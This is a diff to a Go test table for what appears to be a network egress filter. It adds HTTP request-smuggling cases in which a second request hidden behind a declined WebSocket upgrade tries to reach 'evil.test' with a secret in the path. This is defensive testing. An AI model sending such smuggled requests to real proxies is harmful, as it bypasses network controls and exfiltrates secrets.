@@ -23,6 +23,10 @@ const (
 )
 
 var httpRows = []row{
+	smuggle("E11", "another host after an upgrade that the server declines", reset1,
+		`GET /declined HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
+	smuggle("E11", "another host right behind an upgrade that the server declines", reset1+"|"+reset,
+		`GET /declined HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
 	smuggle("E11", "another host", reset, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
 	smuggle("E11", "another allowed host", reset, `GET /{secret} HTTP/1.1\r\nHost: other.example.com`+closing),
 	smuggle("E-7", "another host in the second request", reset1, first, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
@@ -61,6 +65,16 @@ var httpRows = []row{
 	{
 		id: "E11", tries: "HTTP with another header that names a host", rules: []string{"good.example.com:80"},
 		run:   []string{"{probe}", "raw", "good.example.com:80", `GET / HTTP/1.1\r\nHost: good.example.com\r\nX-Forwarded-Host: evil.test` + closing},
+		boxed: "200", heard: https("good.example.com", "good:80"),
+	},
+	{
+		id: "use", tries: "HTTP in its absolute form, for the right host", rules: []string{"good.example.com:80"},
+		run:   []string{"{probe}", "raw", "good.example.com:80", `GET http://good.example.com/ HTTP/1.1\r\nHost: good.example.com` + closing},
+		boxed: "200", heard: https("good.example.com", "good:80"),
+	},
+	{
+		id: "use", tries: "HTTP/1.0 with a host", rules: []string{"good.example.com:80"},
+		run:   []string{"{probe}", "raw", "good.example.com:80", `GET / HTTP/1.0\r\nhost: good.example.com\r\n\r\n`},
 		boxed: "200", heard: https("good.example.com", "good:80"),
 	},
 }
